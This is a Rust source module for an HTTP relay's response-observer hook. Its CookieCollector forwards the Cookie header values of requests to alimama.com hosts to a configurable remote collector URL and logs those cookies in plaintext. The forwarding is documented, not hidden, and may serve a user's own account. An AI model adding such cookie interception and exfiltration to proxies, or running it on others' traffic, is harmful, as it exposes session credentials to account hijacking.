//! Response observation hook.
//!
//! Observers run once per relayed response, after the response bytes have
//! already been copied to the client. They are side-effect only: every
//! failure is logged by the relay and swallowed, so an observer can never
//! alter or delay what the client sees.

use crate::error::{Error, Result};
use crate::http1::{HttpRequest, RelayedResponse};
use async_trait::async_trait;
use serde::{Deserialize, Serialize};

/// Hook invoked once per relayed (request, response) pair
#[async_trait]
pub trait ResponseObserver: Send + Sync {
  async fn observe(&self, request: &HttpRequest, response: &RelayedResponse) -> Result<()>;
}

/// Observer that does nothing, used when no collector is configured
pub struct NoopObserver;

#[async_trait]
impl ResponseObserver for NoopObserver {
  async fn observe(&self, _request: &HttpRequest, _response: &RelayedResponse) -> Result<()> {
    Ok(())
  }
}

#[derive(Serialize)]
struct SetCookiesRequest {
  cookies: String,
}

#[derive(Deserialize)]
struct SetCookiesResponse {
  state: i64,
  #[serde(default)]
  msg: String,
}

/// Collector reply code signalling success
const COLLECTOR_OK: i64 = 1000;

/// Observer that forwards the cookies of matching requests to a collector.
///
/// A request matches when its absolute URL contains any configured trigger
/// substring. On match the concatenated `Cookie` header values are POSTed
/// to the collector as JSON.
pub struct CookieCollector {
  triggers: Vec<String>,
  collector_url: String,
  client: reqwest::Client,
}

impl CookieCollector {
  /// Trigger substrings used when none are configured
  pub const DEFAULT_TRIGGERS: [&'static str; 2] = ["pub.alimama.com", "afpeng.alimama.com"];

  pub fn new(collector_url: String, triggers: Vec<String>) -> Self {
    let triggers = if triggers.is_empty() {
      Self::DEFAULT_TRIGGERS.iter().map(|t| t.to_string()).collect()
    } else {
      triggers
    };
    Self {
      triggers,
      collector_url,
      client: reqwest::Client::new(),
    }
  }

  fn is_triggered(&self, url: &str) -> bool {
    self.triggers.iter().any(|t| url.contains(t.as_str()))
  }
}

#[async_trait]
impl ResponseObserver for CookieCollector {
  async fn observe(&self, request: &HttpRequest, _response: &RelayedResponse) -> Result<()> {
    let url = request.url();
    if !self.is_triggered(&url) {
      return Ok(());
    }

    let payload = SetCookiesRequest {
      cookies: request.cookie_values(),
    };
    let reply = self
      .client
      .post(&self.collector_url)
      .json(&payload)
      .send()
      .await
      .map_err(|e| Error::Observer(format!("collector request failed: {}", e)))?;
    let reply: SetCookiesResponse = reply
      .json()
      .await
      .map_err(|e| Error::Observer(format!("collector reply not decodable: {}", e)))?;

    if reply.state == COLLECTOR_OK {
      tracing::info!("set cookies success, cookie: {}", payload.cookies);
    } else {
      tracing::error!("collector state {} error msg: {}", reply.state, reply.msg);
    }
    Ok(())
  }
}
